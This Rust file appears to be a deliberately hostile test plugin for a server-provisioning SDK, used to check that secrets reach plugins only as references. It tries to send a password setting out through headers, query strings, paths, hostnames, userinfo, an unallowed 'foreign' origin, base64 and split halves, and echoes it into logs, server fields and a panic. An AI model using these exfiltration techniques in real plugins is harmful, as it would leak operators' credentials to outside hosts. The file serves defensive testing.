//! Repeats everything it is given wherever it can: in log lines, steps, names, details and errors, and to whoever may listen.
//!
//! It finds nothing but references, which is what the tests show: of the secret that they stand for there is no trace in its words.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use bootmachine_sdk::http::{Request, send_all};
use bootmachine_sdk::manifest::Setting;
use bootmachine_sdk::{
    DeclaredServer, Error, Image, Label, Manifest, Plugin, Provider, Result, Server, ServerSpec, ServerState, Settings, Size, log,
};

struct Spy {
    /// Everything that was seen so far.
    seen: Vec<String>,
}

impl Plugin for Spy {
    fn describe() -> Manifest {
        Manifest::provider("spy", "0.1.0", "Repeats everything it is given")
            .setting(Setting::url("endpoint", "an echo").required())
            .setting(Setting::text("granted", "an origin that the operator allowed").required())
            .setting(Setting::text("foreign", "an origin that the operator did not allow").required())
            .setting(
                Setting::secret("password", "what this is after")
                    .required()
                    .env("PRACTICE_PASSWORD"),
            )
            .origin("{endpoint}", "the echo")
            .origin("http://*:*", "wherever somebody listens")
    }
}

impl Spy {
    /// Keeps a line and shouts it.
    fn note(&mut self, line: String) {
        log::step(&line);
        log::warn!("{line}");
        self.seen.push(line);
    }

    fn try_one(&mut self, what: &str, request: Request) -> Option<bootmachine_sdk::http::Response> {
        match request.send() {
            Ok(response) => {
                let headers: Vec<String> = response
                    .headers
                    .iter()
                    .map(|header| format!("{}: {}", header.name, header.value))
                    .collect();
                self.note(format!("{what}: {} [{}] {}", response.status, headers.join(", "), response.text()));
                Some(response)
            }
            Err(error) => {
                self.note(format!("{what}: {error:?}"));
                None
            }
        }
    }

    fn everything(&self) -> String {
        self.seen.join("\n")
    }

    fn failure<T>(&self) -> Result<T> {
        Err(Error::failed(self.everything()).hint(self.everything()))
    }
}

impl Provider for Spy {
    fn connect(settings: Settings, _: &[DeclaredServer]) -> Result<Self> {
        let mut spy = Self { seen: Vec::new() };
        let get = |name: &str| settings.require(name).map(|value| value.trim_end_matches('/').to_owned());
        let (endpoint, granted, foreign, password) = (get("endpoint")?, get("granted")?, get("foreign")?, get("password")?);
        for (name, value) in [
            ("endpoint", &endpoint),
            ("granted", &granted),
            ("foreign", &foreign),
            ("password", &password),
        ] {
            spy.note(format!("setting {name}: {value}"));
        }
        let encoded = STANDARD.encode(&password);
        let (half, other_half) = password.split_at(password.len() / 2);
        let json = |value: &str| format!("{{\"password\":\"{value}\"}}");

        // Where the secret may go, and everything that comes back.
        spy.try_one(
            "header",
            Request::get(format!("{endpoint}/plain")).header("x-password", password.clone()),
        );
        spy.try_one(
            "bearer",
            Request::get(format!("{endpoint}/plain")).header("authorization", format!("Bearer {password}")),
        );
        spy.try_one("query", Request::get(format!("{endpoint}/plain?password={password}")));
        for form in [
            "plain",
            "base64",
            "base64url",
            "percent",
            "json",
            "unicode",
            "hex",
            "xml",
            "header",
            "gzip",
            "fail",
        ] {
            let body = Request::post(format!("{endpoint}/{form}"))
                .idempotent(true)
                .body("application/json", json(&password));
            spy.try_one(form, body);
        }
        spy.try_one("form", Request::post(format!("{endpoint}/plain")).form(&[("password", &password)]));
        spy.try_one(
            "redirect",
            Request::get(format!("{endpoint}/redirect")).header("x-password", password.clone()),
        );
        // Asking for a reference to an echoed secret that may go elsewhere.
        let captured = Request::post(format!("{endpoint}/body"))
            .idempotent(true)
            .body("application/json", json(&password))
            .capture_json("/password", &[&granted]);
        if let Some(response) = spy.try_one("capture", captured) {
            let again: Option<String> = response
                .json::<bootmachine_sdk::serde_json::Value>()
                .ok()
                .and_then(|body| Some(body["password"].as_str()?.to_owned()));
            if let Some(again) = again {
                spy.try_one(
                    "captured elsewhere",
                    Request::get(format!("{granted}/")).header("x-password", again),
                );
            }
        }

        // Where it may not.
        spy.try_one("path", Request::get(format!("{endpoint}/{password}")));
        spy.try_one("header name", Request::get(format!("{endpoint}/plain")).header(&password, "x"));
        spy.try_one(
            "elsewhere",
            Request::get(format!("{granted}/")).header("x-password", password.clone()),
        );
        spy.try_one("elsewhere, query", Request::get(format!("{granted}/?password={password}")));
        spy.try_one(
            "elsewhere, body",
            Request::post(format!("{granted}/")).body("text/plain", password.clone()),
        );
        spy.try_one(
            "foreign",
            Request::get(format!("{foreign}/")).header("x-password", password.clone()),
        );
        spy.try_one("host", Request::get(format!("http://{password}.invalid/")));
        spy.try_one(
            "user",
            Request::get(format!("http://{password}@{}/", granted.trim_start_matches("http://"))),
        );
        for answer in send_all(vec![
            Request::get(format!("{granted}/batch")).header("x-password", password.clone()),
        ]) {
            spy.note(format!("batch: {answer:?}"));
        }

        // What no broker can see, and what is worth nothing.
        spy.try_one(
            "base64 elsewhere",
            Request::get(format!("{granted}/")).header("x-password", encoded.clone()),
        );
        spy.try_one(
            "halves elsewhere",
            Request::get(format!("{granted}/"))
                .header("x-one", half)
                .header("x-two", other_half),
        );
        spy.try_one(
            "base64 in the path",
            Request::get(format!("{granted}/{}", encoded.trim_end_matches('='))),
        );
        spy.try_one(
            "halves",
            Request::get(format!("{endpoint}/plain"))
                .header("x-one", half)
                .header("x-two", other_half),
        );
        Ok(spy)
    }

    fn list_servers(&mut self, labels: &[Label]) -> Result<Vec<Server>> {
        let label = labels.first().map_or("none", |label| label.key.as_str());
        self.note(format!("asked for servers by {label}"));
        let mut labels = labels.to_vec();
        labels.push(Label::new("bootmachine-server", "stolen"));
        Ok(vec![Server {
            id: "spied-1".to_owned(),
            name: self.everything(),
            state: ServerState::Failed,
            detail: self.everything(),
            addresses: Vec::new(),
            image: Some(self.everything()),
            size: Some(self.everything()),
            labels,
            host_keys: Vec::new(),
            adopted: false,
        }])
    }

    fn check_servers(&mut self, specs: &[ServerSpec]) -> Result<Vec<Result<()>>> {
        Ok(specs.iter().map(|_| Ok(())).collect())
    }

    fn create_servers(&mut self, specs: &[ServerSpec]) -> Result<Vec<Result<Server>>> {
        for spec in specs {
            self.note(format!("asked for {spec:?}"));
        }
        Ok(specs.iter().map(|_| self.failure()).collect())
    }

    fn destroy_servers(&mut self, ids: &[String]) -> Result<Vec<Result<()>>> {
        Ok(ids.iter().map(|_| self.failure()).collect())
    }

    fn reboot_servers(&mut self, _: &[String]) -> Result<Vec<Result<()>>> {
        self.failure()
    }

    fn set_labels(&mut self, _: &str, _: &[Label]) -> Result<()> {
        self.failure()
    }

    fn list_images(&mut self, _: Option<&str>) -> Result<Vec<Image>> {
        Ok(self
            .seen
            .iter()
            .map(|line| Image {
                id: line.clone(),
                name: line.clone(),
                created: Some(line.clone()),
                architecture: Some(line.clone()),
                details: Some(line.clone()),
            })
            .collect())
    }

    fn list_sizes(&mut self) -> Result<Vec<Size>> {
        // Its last words.
        panic!("{}", self.everything())
    }

    fn console_output(&mut self, _: &str) -> Result<String> {
        Ok(self.everything())
    }
}

bootmachine_sdk::export_provider!(Spy);
